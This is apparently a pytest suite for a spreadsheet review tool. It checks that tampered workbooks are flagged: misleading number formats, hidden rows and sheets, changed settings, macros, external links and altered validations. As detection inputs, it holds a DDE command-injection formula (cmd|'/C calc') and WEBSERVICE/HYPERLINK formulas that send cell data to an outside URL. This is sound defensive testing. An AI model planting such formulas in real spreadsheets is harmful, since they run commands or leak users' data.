"""What people see is reviewed like what is worked out: words, looks, settings, and what is beside cells."""

from __future__ import annotations

import io
import itertools
import re
from collections.abc import Callable
from html import escape
from pathlib import Path
from zipfile import ZipFile

import pytest

from roi_workbook.catalogue import MODEL
from roi_workbook.diff.changes import changes
from roi_workbook.formulas.addresses import cell_address
from roi_workbook.review.cell_map import CellMap
from roi_workbook.review.checks.labels import MOST_OF_SHEET, changed_labels
from roi_workbook.review.checks.rules import MOST_OF_SHEET as MOST_CHANGES
from roi_workbook.review.comparing import compare
from roi_workbook.review.findings import Finding
from roi_workbook.review.reading import read_workbook
from roi_workbook.review.template import template_of
from roi_workbook.workbook.write import write
from tests.edited import WORKBOOK, Made, with_cell, with_columns, with_part, with_rows
from tests.engines.workbook_parts import worksheet_parts

Found = Callable[..., list[Finding]]


@pytest.fixture
def found(tmp_path: Path) -> Found:
    """The findings of one kind about a workbook with this content."""

    def of(kind: str, content: bytes) -> list[Finding]:
        path = tmp_path / "edited.xlsx"
        path.write_bytes(content)
        return [each for each in compare(read_workbook(path)).findings if each.kind == kind]

    return of


def texts(path: Path, title: str) -> list[tuple[int, int]]:
    """Where the template has texts that nobody types on a sheet of a workbook."""
    return list(template_of(read_workbook(path).model).texts[title])


def with_text(content: bytes, title: str, at: tuple[int, int], text: str) -> bytes:
    """The file with a text typed over a cell."""
    return with_cell(content, (title, cell_address(*at)), "str", text)


class TestWords:
    def test_every_overwritten_text_is_named_and_no_other(self, core_file: Path) -> None:
        book = read_workbook(core_file)
        places = CellMap(book, template_of(book.model))
        assert changed_labels(places) == {}
        every = {
            (title, *at): text for title, texts in places.template.texts.items() for at, text in texts.items()
        }
        for title, *at in every:
            book.spreadsheet.sheets[title].values[at[0], at[1]] = "thousand USD"
        assert len(every) > 8_000
        assert changed_labels(places) == every

    def test_a_changed_unit_is_told_with_both_texts(self, core: Made, found: Found) -> None:
        cells = core.book.sheets["Results"].cells
        at = next(at for at, (content, _) in cells.items() if content == "currency")
        (finding,) = found("label-changed", with_text(core.content(), "Results", at, "thousand USD"))
        assert (finding.sheet, finding.cell, finding.severity) == ("Results", cell_address(*at), "warning")
        assert (finding.expected, finding.found) == ('"currency"', '"thousand USD"')

    def test_spaces_around_a_text_do_not_count_but_capitals_do(self, core: Made, found: Found) -> None:
        cells = core.book.sheets["Results"].cells
        at = next(at for at, (content, _) in cells.items() if content == "currency")
        assert found("label-changed", with_text(core.content(), "Results", at, " currency ")) == []
        assert len(found("label-changed", with_text(core.content(), "Results", at, "Currency"))) == 1

    @pytest.mark.parametrize(("insert", "by"), [(with_rows, (2, 0)), (with_columns, (0, 2))])
    def test_texts_are_found_where_they_moved(
        self, insert: Callable[..., bytes], by: tuple[int, int], core: Made, found: Found, core_file: Path
    ) -> None:
        row, column = next(at for at in texts(core_file, "Checks") if min(at) > 0)
        moved = insert(core, "Checks", row if by[0] else column, 2)
        assert found("label-changed", moved) == []
        now = row + by[0], column + by[1]
        (finding,) = found("label-changed", with_text(moved, "Checks", now, "thousand USD"))
        assert finding.cell == cell_address(*now)

    def test_a_sheet_in_another_language_is_counted_not_listed(
        self, core: Made, found: Found, core_file: Path
    ) -> None:
        content = core.content()
        places = texts(core_file, "Checks")[: MOST_OF_SHEET + 2]
        for at in places:
            content = with_text(content, "Checks", at, "ein anderer Text")
        findings = found("label-changed", content)
        assert len(findings) == MOST_OF_SHEET + 1
        assert findings[-1].message.startswith("2 more texts of the template on Checks say something else")


def with_sheet(content: bytes, title: str, change: Callable[[str], str]) -> bytes:
    """The file with the XML of one sheet changed."""
    with ZipFile(io.BytesIO(content)) as archive:
        part = worksheet_parts(archive)[title]
    return with_part(content, part, change)


def with_look(
    content: bytes, place: tuple[str, str], font: str = "", fill: str = "", code: str = ""
) -> bytes:
    """The file after somebody gave a cell a font, a fill or a number format of its own."""
    sheet, address = place
    with ZipFile(io.BytesIO(content)) as archive:
        styles = archive.read("xl/styles.xml").decode()
    counts = {of: int(re.search(rf'<{of} count="(\d+)"', styles)[1]) for of in ("fonts", "fills", "cellXfs")}

    def styled(xml: str) -> str:
        look = (
            f'<xf numFmtId="{999 if code else 0}" fontId="{counts["fonts"] if font else 0}"'
            f' fillId="{counts["fills"] if fill else 0}" borderId="0" xfId="0"/>'
        )
        number_format = f'<numFmt numFmtId="999" formatCode="{escape(code)}"/>'
        for end, more in (("numFmts", number_format), ("fonts", font), ("fills", fill), ("cellXfs", look)):
            xml = xml.replace(f"</{end}>", f"{more}</{end}>", 1)
        return xml

    def pointing(xml: str) -> str:
        changed, times = re.subn(rf'(<c r="{address}" s=")\d+"', rf'\g<1>{counts["cellXfs"]}"', xml)
        assert times == 1
        return changed

    return with_sheet(with_part(content, "xl/styles.xml", styled), sheet, pointing)


class TestLooks:
    @pytest.mark.parametrize(
        ("code", "what"),
        [
            ('"1,250,000"', 'its number format says "1,250,000" whatever the number is'),
            (";;;", "its number format shows nothing"),
            ("#,##0,", "its number format shows it divided by 1,000"),
            ('#,##0" thousand"', 'its number format calls it "thousand"'),
            ('"1"#,##0', 'its number format adds the figures "1"'),
            ("d mmm yyyy", "its number format shows a date or a time"),
            ("[h]:mm", "its number format shows a date or a time"),
        ],
    )
    def test_a_number_format_that_hides_or_misstates_is_told(
        self, code: str, what: str, core: Made, found: Found
    ) -> None:
        content = with_look(core.content(), core.place("npv"), code=code)
        (finding,) = found("shown-otherwise", content)
        assert (finding.sheet, finding.cell) == core.place("npv") and finding.key == "npv"
        assert what in finding.message

    @pytest.mark.parametrize(
        "code",
        [
            "#,##0.00",
            "General",
            "[$USD-409] #,##0;[Red]-#,##0",
            '#,##0," K"',
            '_(* #,##0_);_(* (#,##0);_(* "-"??_)',
        ],
    )
    def test_a_number_format_that_shows_the_number_is_the_analysts(
        self, code: str, core: Made, found: Found
    ) -> None:
        assert found("shown-otherwise", with_look(core.content(), core.place("npv"), code=code)) == []

    def test_letters_in_the_colour_of_their_ground_are_told(self, core: Made, found: Found) -> None:
        white, on_amber = 'rgb="FFFFFFFF"', 'rgb="FFFFC000"'
        content = with_look(core.content(), core.place("npv"), f"<font><color {white}/></font>", fill="")
        (finding,) = found("shown-otherwise", content)
        assert finding.key == "npv" and "colour" in finding.message
        shown = f'<fill><patternFill patternType="solid"><fgColor {on_amber}/></patternFill></fill>'
        assert (
            found(
                "shown-otherwise",
                with_look(core.content(), core.place("npv"), f"<font><color {white}/></font>", shown),
            )
            == []
        )

    def test_a_format_that_misstates_is_told_before_a_program_works_the_number_out(
        self, core: Made, found: Found
    ) -> None:
        content = with_look(write(core.book, {}), core.place("npv"), code='"1,250,000"')
        (finding,) = found("shown-otherwise", content)
        assert (finding.key, finding.workbook) == ("npv", pytest.approx(87_681.14, abs=0.005))

    @pytest.mark.parametrize(("text", "code"), [("46117", "d mmm"), ("0.0625", "h:mm")])
    def test_a_number_that_a_program_took_for_a_date_or_a_time_is_told(
        self, text: str, code: str, core: Made, found: Found
    ) -> None:
        place = core.place("incidents_per_quarter_base")
        (finding,) = found(
            "shown-otherwise", with_look(with_cell(core.content(), place, "n", text), place, code=code)
        )
        assert finding.key == "incidents_per_quarter_base" and "date or a time" in finding.message
        assert "type the number as a decimal" in finding.message

    @pytest.mark.parametrize("name", ["incidents_per_quarter_base", "scenario_base", "purchases_item"])
    def test_a_format_that_hides_what_was_typed_is_told_like_one_of_a_result(
        self, name: str, core: Made, found: Found
    ) -> None:
        area = core.book.names[name]
        # The first row of a table is a spacer.
        place = area.sheet, cell_address(area.top + (area.shape[0] > 1), area.left)
        (finding,) = found("shown-otherwise", with_look(core.content(), place, code=";;;"))
        assert (finding.sheet, finding.cell, finding.key) == (*place, name)
        assert "shows nothing" in finding.message and "decimal" not in finding.message


class TestHidden:
    @pytest.mark.parametrize(("state", "how"), [("hidden", "is hidden."), ("veryHidden", "no menu shows it")])
    def test_a_hidden_sheet_is_told(self, state: str, how: str, core: Made, found: Found) -> None:
        content = with_part(
            core.content(),
            WORKBOOK,
            lambda xml: xml.replace('<sheet name="Cash flow"', f'<sheet state="{state}" name="Cash flow"'),
        )
        (finding,) = found("hidden", content)
        assert finding.sheet == "Cash flow" and how in finding.message

    @pytest.mark.parametrize(
        "attributes", ['hidden="1"', 'hidden="true" outlineLevel="1"', 'ht="0" customHeight="1"']
    )
    def test_a_hidden_row_is_told_with_what_it_holds(self, attributes: str, core: Made, found: Found) -> None:
        area = core.book.names["hours_per_incident_base"]
        row = area.top + 1
        content = with_sheet(
            core.content(),
            area.sheet,
            lambda xml: re.sub(rf'<row r="{row}"[^>]*>', f'<row r="{row}" {attributes}>', xml, count=1),
        )
        (finding,) = found("hidden", content)
        assert (finding.sheet, finding.severity) == (area.sheet, "warning")
        assert finding.message.startswith(f"Row {row} is hidden and holds Hours per incident")

    def test_a_hidden_row_of_results_is_told_before_a_program_works_them_out(
        self, core: Made, found: Found
    ) -> None:
        area = core.book.names["annual_value"]
        row = area.top + 1
        content = with_sheet(
            write(core.book, {}),
            area.sheet,
            lambda xml: xml.replace(f'<row r="{row}"', f'<row hidden="1" r="{row}"', 1),
        )
        (finding,) = found("hidden", content)
        assert (finding.sheet, finding.key) == (area.sheet, "annual_value")

    @pytest.mark.parametrize("attributes", ['hidden="1" width="9"', 'width="0"'])
    def test_hidden_columns_are_told_as_one(self, attributes: str, core: Made, found: Found) -> None:
        area = core.book.names["hours_per_incident_base"]
        first = area.left + 1
        cols = f'<cols><col min="{first}" max="{first + 1}" {attributes}/></cols>'
        content = with_sheet(
            core.content(), area.sheet, lambda xml: re.sub("<cols>.*?</cols>", cols, xml, count=1)
        )
        (finding,) = found("hidden", content)
        assert finding.message.startswith("Column") and finding.sheet == area.sheet

    def test_what_holds_nothing_that_counts_may_be_hidden(self, core: Made, found: Found) -> None:
        beyond = '<col min="200" max="16384" hidden="1" width="9"/></cols>'
        content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</cols>", beyond, 1))
        assert found("hidden", content) == []


class TestSettings:
    @pytest.mark.parametrize(
        ("setting", "severity", "said"),
        [
            ('calcMode="manual"', "warning", "only when somebody asks"),
            ('fullPrecision="0"', "warning", "as they are displayed"),
            ('iterate="true"', "warning", "circular references"),
        ],
    )
    def test_a_setting_that_changes_numbers_is_told(
        self, setting: str, severity: str, said: str, core: Made, found: Found
    ) -> None:
        content = with_part(
            core.content(), WORKBOOK, lambda xml: xml.replace("<calcPr", f"<calcPr {setting}")
        )
        (finding,) = found("setting-changed", content)
        assert finding.severity == severity and said in finding.message

    def test_a_setting_that_may_explain_a_difference_is_an_error_before_it(
        self, core: Made, tmp_path: Path
    ) -> None:
        path = tmp_path / "rounded.xlsx"
        path.write_bytes(
            with_part(
                core.content({"npv": 41.37}),
                WORKBOOK,
                lambda xml: xml.replace("<calcPr", '<calcPr fullPrecision="0"'),
            )
        )
        first, second, *_ = compare(read_workbook(path)).findings
        assert (first.kind, first.severity) == ("setting-changed", "error")
        assert second.kind == "value-differs" and "why numbers differ" in first.message

    @pytest.mark.parametrize(
        "setting", ['calcMode="auto"', 'fullPrecision="true" iterate="false"', 'calcMode="autoNoTable"']
    )
    def test_usual_settings_are_not_told(self, setting: str, core: Made, found: Found) -> None:
        content = with_part(
            core.content(), WORKBOOK, lambda xml: xml.replace("<calcPr", f"<calcPr {setting}")
        )
        assert found("setting-changed", content) == []


class TestWhatRunsOrFetches:
    @pytest.mark.parametrize(
        ("part", "said"),
        [
            ("xl/vbaProject.bin", "macros"),
            ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
            ("xl/connections.xml", "data connections"),
            ("xl/embeddings/oleObject1.bin", "embedded files"),
        ],
    )
    def test_a_part_that_runs_or_fetches_is_a_warning(
        self, part: str, said: str, core: Made, found: Found
    ) -> None:
        with_it = io.BytesIO(core.content())
        with ZipFile(with_it, "a") as archive:
            archive.writestr(part, "<x/>")
        (finding,) = found("added", with_it.getvalue())
        assert finding.severity == "warning" and said in finding.message

    @pytest.mark.parametrize(
        "formula",
        [
            'WEBSERVICE("https://example.org/"&A1)',
            "[1]Prices!$A$1*2",
            "'C:\\data\\[prices.xlsx]Sheet 1'!$A$1",
            "cmd|'/C calc'!A0",
            'HYPERLINK("https://example.org/?"&npv, 1250000)',
            "hyperlink ( A1 , 5)",
        ],
    )
    def test_a_formula_that_fetches_from_elsewhere_is_a_warning(
        self, formula: str, core: Made, found: Found
    ) -> None:
        cell = f'<row r="400"><c r="A400"><f>{escape(formula, quote=False)}</f><v>1</v></c></row></sheetData>'
        content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</sheetData>", cell))
        (finding,) = found("added", content)
        assert (finding.sheet, finding.cell, finding.severity) == ("Results", "A400", "warning")

    @pytest.mark.parametrize("formula", ["npv*2", 'HYPERLINK("#npv",1250000)'])
    def test_a_formula_of_the_analysts_own_is_a_remark(self, formula: str, core: Made, found: Found) -> None:
        cell = f'<row r="400"><c r="A400"><f>{formula}</f><v>1</v></c></row></sheetData>'
        content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</sheetData>", cell))
        (finding,) = found("added", content)
        assert finding.severity == "info"


def test_charts_that_were_lost_are_counted_in_one_line(core: Made, found: Found) -> None:
    charts = sum(len(sheet.charts) for sheet in core.book.sheets.values())
    assert charts > 2 and found("charts-lost", core.content()) == []
    kept = io.BytesIO()
    with ZipFile(io.BytesIO(core.content())) as whole, ZipFile(kept, "w") as without:
        for part in whole.namelist():
            if not part.startswith(("xl/charts/chart1.", "xl/charts/chart2.")):
                without.writestr(part, whole.read(part))
    (finding,) = found("charts-lost", kept.getvalue())
    assert finding.severity == "info" and finding.message.startswith(f"2 of the {charts} charts")


def without(content: bytes, *patterns: str) -> bytes:
    """The file without what matches in any sheet, as a program saves it that does not know of it."""
    kept = io.BytesIO()
    with ZipFile(io.BytesIO(content)) as whole, ZipFile(kept, "w") as lighter:
        for part in whole.namelist():
            xml = whole.read(part)
            if part.startswith("xl/worksheets/sheet"):
                for pattern in patterns:
                    xml = re.sub(pattern.encode(), b"", xml, flags=re.DOTALL)
            lighter.writestr(part, xml)
    return kept.getvalue()


VALIDATIONS, CONDITIONS, PROTECTION = (
    "<dataValidations .*</dataValidations>",
    "<conditionalFormatting .*</conditionalFormatting>",
    "<sheetProtection [^>]*>",
)


def with_validation(content: bytes, made: Made, name: str, change: Callable[[str], str]) -> bytes:
    """The file with the validation of one cell changed."""
    sheet, address = made.place(name)
    pattern = rf'<dataValidation [^>]*sqref="{address}"(?:/>|.*?</dataValidation>)'

    def changed(xml: str) -> str:
        (rule,) = re.findall(pattern, xml, flags=re.DOTALL)
        return xml.replace(rule, change(rule))

    return with_sheet(content, sheet, changed)


class TestValidations:
    @pytest.mark.parametrize(
        ("old", "new", "there"),
        [
            ("<formula2>1<", "<formula2>100<", "a number from 0 to 100"),
            ("<formula1>0<", "<formula1>-7.5<", "a number from -7.5 to 1"),
            ('type="decimal"', 'type="decimal" operator="greaterThan"', "a number above 0"),
            ('showErrorMessage="1"', "", "anything, and only advises a number from 0 to 1"),
            (
                'type="decimal"',
                'type="decimal" errorStyle="warning"',
                "anything, and only advises a number from 0 to 1",
            ),
            ('type="decimal"', "", "anything"),
            ("<formula2>1<", "<formula2>npv<", "a number from 0 to =npv"),
        ],
    )
    def test_a_changed_bound_is_told_with_both(
        self, old: str, new: str, there: str, core: Made, found: Found
    ) -> None:
        name = "annual_discount_rate_base"
        content = with_validation(core.content(), core, name, lambda rule: rule.replace(old, new, 1))
        (finding,) = found("validation-changed", content)
        assert (finding.key, finding.severity) == (name, "info")
        assert (finding.sheet, finding.cell) == core.place(name)
        assert (finding.found, finding.expected) == (there, "a number from 0 to 1")

    def test_a_changed_list_is_told_with_both(self, core: Made, found: Found) -> None:
        content = with_validation(
            core.content(), core, "scenario_base", lambda rule: rule.replace("Conservative,Base", "Bold,Base")
        )
        (finding,) = found("validation-changed", content)
        assert finding.found == "one of Bold, Base, Optimistic"
        assert finding.expected == "one of Conservative, Base, Optimistic"

    def test_a_validation_that_is_gone_from_one_cell_is_told(self, core: Made, found: Found) -> None:
        content = with_validation(core.content(), core, "annual_discount_rate_base", lambda rule: "")
        (finding,) = found("validation-changed", content)
        assert finding.key == "annual_discount_rate_base" and finding.found == "anything"

    def test_two_rules_for_one_cell_are_told(self, core: Made, found: Found) -> None:
        content = with_validation(
            core.content(),
            core,
            "annual_discount_rate_base",
            lambda rule: rule + rule.replace("<formula2>1<", "<formula2>41<"),
        )
        (finding,) = found("validation-changed", content)
        assert finding.found == "a number from 0 to 41"

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("<formula2>1<", "<formula2>1.00E+00<"),
            ('type="decimal"', 'operator="between" type="decimal" errorStyle="stop"'),
            ('showErrorMessage="1"', 'showErrorMessage="true"'),
        ],
    )
    def test_another_spelling_is_no_change(self, old: str, new: str, core: Made, found: Found) -> None:
        name = "annual_discount_rate_base"
        content = with_validation(core.content(), core, name, lambda rule: rule.replace(old, new, 1))
        assert content != core.content() and found("validation-changed", content) == []

    def test_all_changes_of_a_sheet_are_counted(self, core: Made, found: Found) -> None:
        sheet, _ = core.place("annual_discount_rate_base")
        rules = itertools.count(5)
        content = with_sheet(
            core.content(),
            sheet,
            lambda xml: re.sub("(?<=<formula2>)1(?=<)", lambda _: str(next(rules)), xml),
        )
        findings = found("validation-changed", content)
        assert len(findings) == MOST_CHANGES + 1
        assert f"more cells of {sheet} take something else" in findings[-1].message

    def test_validations_move_with_their_cells(self, core: Made, found: Found) -> None:
        sheet, address = core.place("annual_discount_rate_base")
        row = core.book.names["annual_discount_rate_base"].top
        moved = with_rows(core, sheet, row, 2)
        assert found("validation-changed", moved) == []
        there = f"{address[0]}{row + 3}"
        changed = with_sheet(
            moved,
            sheet,
            lambda xml: re.sub(rf'(sqref="{there}"><formula1>0</formula1><formula2>)1<', r"\g<1>3<", xml),
        )
        (finding,) = found("validation-changed", changed)
        assert (finding.cell, finding.found) == (there, "a number from 0 to 3")

    def test_a_sheet_without_its_validations_is_one_finding(self, core: Made, found: Found) -> None:
        content = with_sheet(
            core.content(), "Inputs", lambda xml: re.sub(VALIDATIONS, "", xml, flags=re.DOTALL)
        )
        (finding,) = found("validation-changed", content)
        number = len(core.book.sheets["Inputs"].validations)
        assert (
            finding.sheet == "Inputs" and f"All validations of Inputs ({number}) are gone" in finding.message
        )


class TestWhatProgramsLose:
    def test_what_a_program_loses_is_one_line(self, core: Made, found: Found) -> None:
        content = without(core.content(), VALIDATIONS, CONDITIONS, PROTECTION)
        (finding,) = found("lost-on-saving", content)
        sheets = core.book.sheets.values()
        rules = sum(len(sheet.validations) for sheet in sheets)
        formats = sum(len(sheet.conditions) for sheet in template_of(MODEL.core).book.sheets.values())
        assert finding.severity == "info"
        assert finding.message.startswith(
            f"Saved by a program that loses {rules} validations, {formats} conditional formats and the protection of"
            f" {len(sheets)} sheets."
        )
        assert all(
            found(kind, content) == [] for kind in ("validation-changed", "formats-lost", "protection-lost")
        )

    @pytest.mark.parametrize(
        ("kind", "lost"), [("formats-lost", CONDITIONS), ("protection-lost", PROTECTION)]
    )
    def test_what_one_sheet_lost_is_told_with_its_name(
        self, kind: str, lost: str, core: Made, found: Found
    ) -> None:
        assert found(kind, core.content()) == []
        content = with_sheet(core.content(), "Checks", lambda xml: re.sub(lost, "", xml, flags=re.DOTALL))
        (finding,) = found(kind, content)
        assert finding.severity == "info" and "Checks" in finding.message

    def test_one_conditional_format_of_many_is_missed(self, core: Made, found: Found) -> None:
        content = with_sheet(
            core.content(),
            "Summary",
            lambda xml: re.sub("<cfRule .*?</cfRule>", "", xml, count=1, flags=re.DOTALL),
        )
        (finding,) = found("formats-lost", content)
        assert finding.message.startswith("At least 1 of the ")

    def test_formulas_that_a_program_leaves_out_because_they_gave_nothing_are_one_finding(
        self, core: Made, found: Found
    ) -> None:
        nothing = r'<c r="[A-Z]+[0-9]+"[^>]*><f>[^<]*</f><v></v></c>'
        dropped = sum(value in ("", None) for value in core.values.values())
        content = without(core.content(), nothing)
        (finding,) = found("formula-overwritten", content)
        assert finding.severity == "error"
        assert finding.message.startswith(f"{dropped} formulas that gave an empty text are gone")
        place = core.place("npv")
        also = with_sheet(content, place[0], lambda xml: re.sub(rf'<c r="{place[1]}".*?</c>', "", xml))
        assert [each.key for each in found("formula-overwritten", also)] == [finding.key, "npv"]

    def test_diff_tells_what_was_lost_between_two_files(
        self, core: Made, core_file: Path, tmp_path: Path
    ) -> None:
        after = tmp_path / "after.xlsx"
        after.write_bytes(without(core.content(), VALIDATIONS, PROTECTION))
        told = changes(read_workbook(core_file), read_workbook(after)).formulas
        assert [(each.change, each.finding.kind) for each in told] == [("new", "lost-on-saving")]


XDR, DRAWING = "xdr:", "http://schemas.openxmlformats.org/drawingml/2006/main"


def with_shape(content: bytes, part: str, corners: tuple[int, int, int, int], text: str) -> bytes:
    """The file with a box of text over some cells."""
    at = [
        f"<xdr:{end}><xdr:col>{column}</xdr:col><xdr:row>{row}</xdr:row></xdr:{end}>"
        for end, row, column in (("from", *corners[:2]), ("to", *corners[2:]))
    ]
    box = (
        f'<xdr:twoCellAnchor>{"".join(at)}<xdr:sp xmlns:a="{DRAWING}"><xdr:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p>'
        "</xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    )
    return with_part(content, part, lambda xml: xml.replace("</xdr:wsDr>", box))


class TestCharts:
    CHART = "xl/charts/chart2.xml"

    def test_a_series_that_shows_other_cells_is_told_with_both(self, core: Made, found: Found) -> None:
        drawn, other = core.book.names["cash_drawn"], core.book.names["waterfall_text"]
        content = with_part(
            core.content(),
            self.CHART,
            lambda xml: xml.replace(f"<c:f>{drawn.reference}<", f"<c:f>{other.reference}<"),
        )
        (finding,) = found("chart-changed", content)
        assert (finding.sheet, finding.severity) == ("Summary", "warning")
        assert other.reference in finding.message and drawn.address.replace("$", "") in finding.message
        assert found("added", content) == [] and found("charts-lost", content) == []

    def test_a_series_beside_those_of_the_template_is_told(self, core: Made, found: Found) -> None:
        content = with_part(
            core.content(),
            self.CHART,
            lambda xml: re.sub("(<c:ser>.*?</c:ser>)", r"\1\1", xml, count=1, flags=re.DOTALL),
        )
        (finding,) = found("chart-changed", content)
        assert "shows 1 series that the template does not have" in finding.message

    def test_far_too_many_validations_are_not_compared_one_by_one(self, core: Made, found: Found) -> None:
        sheet, _ = core.place("scenario_base")
        rule = '<dataValidation type="whole" sqref="A1:XFD900"><formula1>7</formula1></dataValidation>'
        content = with_sheet(
            core.content(),
            sheet,
            lambda xml: xml.replace("<dataValidation ", 1_800 * rule + "<dataValidation ", 1),
        )
        (finding,) = found("validation-changed", content)
        assert "far more than the template" in finding.message

    @pytest.mark.parametrize(
        ("title", "said"), [("NPV 1,250,000", 'says "NPV 1,250,000"; its cell'), ("", "is gone")]
    )
    def test_a_title_that_was_typed_over_is_told_with_what_its_cell_says(
        self, title: str, said: str, core: Made, found: Found
    ) -> None:
        typed = f"<c:tx><c:rich><a:p><a:r><a:t>{title}</a:t></a:r></a:p></c:rich></c:tx>"
        content = with_part(
            core.content(),
            self.CHART,
            lambda xml: re.sub("(<c:title>)<c:tx>.*?</c:tx>", rf"\1{typed}", xml, count=1, flags=re.DOTALL),
        )
        (finding,) = found("chart-changed", content)
        says = core.values["Results", *core.book.names["cash_title"][1:3]]
        assert finding.severity == "warning" and said in finding.message and says in finding.message

    def test_a_title_that_a_program_typed_as_its_cell_says_it_is_none(self, core: Made, found: Found) -> None:
        says = core.values["Results", *core.book.names["cash_title"][1:3]]
        for content in (core.content(), write(core.book, {})):  # stored, and to be worked out
            assert found("chart-changed", self.with_title(content, str(says))) == []
            assert len(found("chart-changed", self.with_title(content, "Back at once"))) == 1

    def with_title(self, content: bytes, says: str) -> bytes:
        typed = f"<c:tx><c:rich><a:p><a:r><a:t>{says}</a:t></a:r></a:p></c:rich></c:tx>"
        return with_part(
            content,
            self.CHART,
            lambda xml: re.sub("(<c:title>)<c:tx>.*?</c:tx>", rf"\1{typed}", xml, count=1, flags=re.DOTALL),
        )

    def test_a_box_over_cells_is_a_warning_and_beside_them_a_remark(self, core: Made, found: Found) -> None:
        drawing = "xl/drawings/drawing1.xml"
        (over,) = found("added", with_shape(core.content(), drawing, (3, 1, 6, 4), "NPV 1,250,000"))
        assert (over.sheet, over.cell, over.severity) == ("Summary", "B4:E7", "warning")
        assert over.message.startswith('A shape that says "NPV 1,250,000" lies over')
        (beside,) = found("added", with_shape(core.content(), drawing, (500, 40, 503, 42), "our logo"))
        assert beside.severity == "info"

    def test_another_chart_of_the_analysts_is_told_where_it_lies(self, core: Made, found: Found) -> None:
        drawing = "xl/drawings/drawing1.xml"
        content = with_part(
            core.content(),
            drawing,
            lambda xml: re.sub(
                "(<xdr:twoCellAnchor.*?</xdr:twoCellAnchor>)", r"\1\1", xml, count=1, flags=re.DOTALL
            ),
        )
        (finding,) = found("added", content)
        assert finding.message.startswith("A chart lies over ")


class TestPrinted:
    AREA = r'(<definedName name="_xlnm.Print_Area" localSheetId="1">)[^<]*'

    def printing(self, content: bytes, areas: str) -> bytes:
        """The file with another print area of Summary."""
        return with_part(content, WORKBOOK, lambda xml: re.sub(self.AREA, rf"\g<1>{areas}", xml))

    def test_a_print_area_that_cuts_off_results_is_a_remark(self, core: Made, found: Found) -> None:
        content = self.printing(core.content(), "Summary!$A$1:$K$9")
        (finding,) = found("not-printed", content)
        assert (finding.sheet, finding.severity) == ("Summary", "info")
        assert "Summary!$A$1:$K$9" in finding.message

    @pytest.mark.parametrize(
        "areas", ["Summary!$A$1:$K$9,Summary!$10:$900", "Summary!$A:$Z", "Summary!A1:Z900"]
    )
    def test_what_prints_as_much_or_more_is_not_told(self, areas: str, core: Made, found: Found) -> None:
        assert found("not-printed", self.printing(core.content(), areas)) == []


class TestNamesAndLinks:
    @pytest.mark.parametrize(
        ("name", "reference", "severity", "told"),
        [
            ('name="_xlm_price" hidden="1"', "41.37", "info", "_xlm_price (hidden)"),
            ('name="_xlfn.PRICE" hidden="1"', "npv*2", "info", "_xlfn.PRICE (hidden)"),
            ('name="_xlevil" hidden="1" localSheetId="1"', "npv*2", "info", "_xlevil (hidden)"),
            ('name="price"', "[1]Prices!$A$1", "warning", "price"),
        ],
    )
    def test_a_name_that_looks_like_a_programs_is_told(
        self, name: str, reference: str, severity: str, told: str, core: Made, found: Found
    ) -> None:
        defined = f"<definedName {name}>{reference}</definedName></definedNames>"
        content = with_part(core.content(), WORKBOOK, lambda xml: xml.replace("</definedNames>", defined))
        (finding,) = found("added", content)
        assert finding.severity == severity and finding.message.endswith(f": {told}.")

    @pytest.mark.parametrize("name", ["_xlfn.XLOOKUP", "_xlpm.x"])
    def test_a_name_that_stands_for_an_unknown_function_is_a_programs(
        self, name: str, core: Made, found: Found
    ) -> None:
        defined = f'<definedName name="{name}" hidden="1">#NAME?</definedName></definedNames>'
        content = with_part(core.content(), WORKBOOK, lambda xml: xml.replace("</definedNames>", defined))
        assert found("added", content) == []
